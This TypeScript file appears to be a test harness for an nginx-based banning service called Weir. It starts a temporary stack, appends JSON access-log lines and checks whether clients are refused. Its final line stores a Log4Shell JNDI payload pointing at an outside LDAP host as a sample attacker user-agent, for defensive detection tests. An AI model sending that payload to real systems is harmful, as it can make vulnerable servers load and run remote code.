/** A stack for a test: real processes in a folder of their own, reading a log that the test writes. */
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SystemClock } from '#libs/clock/system.ts';
import { natsPart, nginxPart } from '#services/standalone/parts/parts.ts';
import { type Layout, layoutOf, prepareLayout } from '#services/standalone/stack/layout.ts';
import { endLeftovers } from '#services/standalone/stack/leftovers.ts';
import { freePort } from '#services/standalone/stack/ports.ts';
import { Stack, type StackOptions } from '#services/standalone/stack/stack.ts';
import { endWithProcess } from './orphans.ts';

export interface TestStackOptions {
  /** With nginx, which refuses what is decided; else bans are only recorded. */
  readonly nginx?: boolean;
  /** nginx's own log is read; else one that the test appends to. */
  readonly ownLog?: boolean;
  readonly site?: string;
  readonly config?: Partial<StackOptions['config']>;
  readonly source?: Readonly<Record<string, unknown>>;
}

export interface Reply {
  readonly status: number;
  readonly decision: string;
  readonly body: string;
}

const SITE = 'location / { return 200 "ok\\n"; }\nlocation /missing { return 404; }';

export class TestStack {
  readonly stack: Stack;
  readonly folder: string;
  readonly port: number;
  /** The log that is read. */
  readonly log: string;
  readonly clock = new SystemClock();

  readonly #ended: () => void;

  private constructor(stack: Stack, folder: string, port: number, log: string, ended: () => void) {
    this.#ended = ended;
    this.stack = stack;
    this.folder = folder;
    this.port = port;
    this.log = log;
  }

  static async start(options: TestStackOptions = {}): Promise<TestStack> {
    const { nginx = true, ownLog = false, site = SITE, config = {}, source = {} } = options;
    const folder = mkdtempSync(join(tmpdir(), 'weir-test-'));
    const layout = layoutOf(folder);
    prepareLayout(layout, false);
    const port = await freePort();
    const log = ownLog ? layout.accessLog : join(folder, 'test.log');
    if (!ownLog) writeFileSync(log, '');
    const ended = endStackWithProcess(layout);
    const stack = await Stack.start({
      layout,
      nats: await natsPart(),
      clock: new SystemClock(),
      config: {
        enforce: nginx,
        loopback: true,
        announce: '100ms',
        source: { name: 'test', type: 'file', path: log, ...source },
        ...config,
      },
      ...(nginx ? { nginx: { part: await nginxPart(), port, workers: 2, site } } : {}),
    });
    return new TestStack(stack, folder, port, log, ended);
  }

  async stop(): Promise<void> {
    await this.stack.stop();
    this.#ended();
    rmSync(this.folder, { recursive: true, force: true });
  }

  append(...lines: string[]): void {
    appendFileSync(this.log, lines.map((line) => `${line}\n`).join(''));
  }

  logText(): string {
    return readFileSync(this.log, 'utf8');
  }

  /** Asks nginx as a client of 127.0.0.0/8. */
  ask(from: string, path = '/', headers: Record<string, string> = {}, method = 'GET'): Promise<Reply> {
    return new Promise((resolve, reject) => {
      const options = { host: '127.0.0.1', port: this.port, localAddress: from, path, method, headers };
      const asking = request({ ...options, agent: new Agent() }, (response) => {
        let body = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => {
          body += chunk;
        });
        response.once('end', () => {
          resolve({
            status: response.statusCode ?? 0,
            decision: String(response.headers['weir-decision'] ?? ''),
            body,
          });
        });
      });
      asking.once('error', reject);
      asking.end();
    });
  }

  /** Waits until nginx refuses a client, and returns the reply. */
  async refused(from: string, patienceMs = 10_000): Promise<Reply> {
    let reply: Reply | undefined;
    await this.stack.until(
      `a refusal of ${from}`,
      async () => {
        reply = await this.ask(from).catch(() => undefined);
        return reply?.decision !== undefined && reply.decision !== '';
      },
      patienceMs,
    );
    if (!reply) throw new Error('no reply');
    return reply;
  }

  /** Sum of a service's number, by its name without labels. */
  async number(service: 'collector' | 'analyzer' | 'decision' | 'enforcer', name: string): Promise<number> {
    const status = await this.stack.status(service).catch(() => undefined);
    return Object.entries(status?.numbers ?? {}).reduce(
      (sum, [key, value]) => (key === name || key.startsWith(`${name}{`) ? sum + value : sum),
      0,
    );
  }
}

/** What a stack in this folder has started ends with this process, and the folder goes. */
export function endStackWithProcess(layout: Layout): () => void {
  return endWithProcess(() => {
    endLeftovers(layout);
    rmSync(layout.folder, { recursive: true, force: true, maxRetries: 5 });
  });
}

/** A line of Weir's JSON log. */
export function weirLine(event: {
  readonly timeMs: number;
  readonly ip: string;
  readonly method?: string;
  readonly uri?: string;
  readonly status?: number;
  readonly agent?: string;
  readonly referer?: string;
  readonly host?: string;
  readonly user?: string;
  readonly decision?: string;
}): string {
  const { timeMs, ip, method = 'GET', uri = '/', status = 200, agent = 'Mozilla/5.0', referer = '' } = event;
  return JSON.stringify({
    v: 1,
    t: Number((timeMs / 1000).toFixed(3)),
    ip,
    h: event.host ?? 'shop.example',
    m: method,
    u: uri,
    p: 'HTTP/1.1',
    s: status,
    b: 612,
    rt: 0.002,
    ua: agent,
    rf: referer,
    ...(event.user === undefined ? {} : { us: event.user }),
    weir: event.decision ?? '',
  });
}

/** Agents as an attacker sends them. */
export const LOG4SHELL = '${jndi:ldap://198.51.100.7/a}';
